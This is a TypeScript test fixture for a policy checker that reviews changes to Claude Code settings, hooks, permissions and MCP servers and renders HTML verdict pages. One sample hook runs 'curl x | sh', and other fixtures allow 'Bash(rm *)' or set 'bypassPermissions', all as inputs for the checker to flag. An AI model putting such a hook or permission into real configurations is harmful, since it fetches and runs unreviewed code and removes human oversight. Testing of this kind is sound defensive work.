/** Pages to look at: a verdict of each kind, and an explanation. */
import {
  defaultPolicy,
  explain,
  type Json,
  type PolicySource,
  renderExplanationPage,
  renderHtmlReport,
} from '../../../src/core/index.ts';
import {
  describeBetween,
  json,
  mcp,
  policySource,
  policyWith,
  REPOSITORY,
  type Repository,
  SETTINGS,
  settings,
  TODAY,
} from '../cases/repository.ts';

const ORIGIN = {
  repository: REPOSITORY,
  today: TODAY,
  policyName: 'acme/.claude-policy at 1a2b3c4',
  version: '1.2.3',
};

const hook = (command: string) => ({ hooks: [{ type: 'command', command }] });
const BASE: Repository = {
  [SETTINGS]: settings({ hooks: { Stop: [hook('./old.sh')] }, permissions: { allow: ['Bash(rm *)'] } }),
  'old.sh': 'echo old\n',
};
const HEAD: Repository = {
  [SETTINGS]: settings({
    hooks: {
      Stop: [hook('./old.sh')],
      SessionStart: [hook('./new.sh'), hook('./late.sh'), hook('curl x | sh')],
    },
    permissions: { allow: ['Bash(npm test)'] },
  }),
  'old.sh': 'echo old\n',
  'new.sh': 'echo new\n',
  'late.sh': 'echo late\n',
  '.mcp.json': mcp({ db: { command: 'npx', args: ['-y', 'db-mcp'] } }),
  'CLAUDE.md': '# Web\n',
  'packages/api/.claude/settings.json': '{ "permissions": { "deny": ["Read(./x)"] } }\n',
};

/** A policy of its own, so that the snapshot's lines stay when the reference policy grows. */
const policyThat = (approvals: readonly Json[]): PolicySource =>
  policySource(json({ version: 1, permissions: { allow: ['Bash(npm test)'] }, approvals }));

/** Approves the scripts of HEAD: one until next year, one until yesterday. */
function approving(): PolicySource {
  const { verdict } = describeBetween(BASE, HEAD, policyThat([]));
  const approvals = [
    ['new.sh', '2027-03-01'],
    ['late.sh', '2026-11-21'],
  ].map(([script = '', expires = '']) => ({
    kind: 'hook',
    digest: verdict.findings.find(({ data }) => data['action']?.includes(script))?.approvable?.digest ?? '',
    repositories: [REPOSITORY],
    owner: '@acme/security <b>',
    reason: `Read ${script} by hand.`,
    ticket: 'SEC-12',
    created: '2026-11-01',
    expires,
  }));
  return policyThat(approvals);
}

/** The page of a change, with the configuration that it would leave behind. */
export function pageOf(base: Repository, head: Repository, source: PolicySource): string {
  const { verdict, description, request } = describeBetween(base, head, source);
  const policy = source.kind === 'policy' ? source.policy : defaultPolicy();
  const { head: tree, blobs } = request;
  const reading = explain({ ...ORIGIN, tree, folder: '', policy, blobs });
  return renderHtmlReport(verdict, {
    ...ORIGIN,
    ruleUrl: (id) => `https://docs.example/${id}`,
    approvals: policy.approvals,
    description,
    explanations: reading.kind === 'explanation' ? [reading.explanation] : [],
  });
}

/** A change of which some is blocked, some approved, some expired and some tighter. */
export const PAGE = pageOf(BASE, HEAD, approving());

const LOOSE: Repository = { [SETTINGS]: settings({ permissions: { defaultMode: 'bypassPermissions' } }) };
const FLOOR: Repository = { [SETTINGS]: settings() };
const explanation = (): string => {
  const { request } = describeBetween(BASE, HEAD, approving());
  const reading = explain({
    ...ORIGIN,
    tree: request.head,
    folder: '',
    policy: defaultPolicy(),
    blobs: request.blobs,
  });
  return reading.kind === 'explanation'
    ? renderExplanationPage(reading.explanation, { ...ORIGIN, approvals: [] })
    : '';
};

/** Each kind of page: its name, what it says, and how it is made. */
export const PAGES: readonly (readonly [mode: string, said: string, page: () => string])[] = [
  ['blocked', 'Blocked', () => PAGE],
  ['passed', 'Passed', () => pageOf(LOOSE, FLOOR, policySource(policyWith({})))],
  [
    'reported',
    'Passed, because the policy is not enforced yet',
    () => pageOf(BASE, HEAD, policySource(policyWith({ enforcement: 'report' }))),
  ],
  [
    'undetermined',
    'Blocked: could not be judged',
    () => pageOf(BASE, HEAD, { kind: 'unavailable', reason: 'GitHub did not answer' }),
  ],
  [
    'nothing',
    'Nothing to govern',
    () => pageOf({ 'a.txt': '1' }, { 'a.txt': '2' }, policySource(policyWith({}))),
  ],
  ['an explanation', 'What Claude Code does when it starts in the root of the repository', explanation],
];
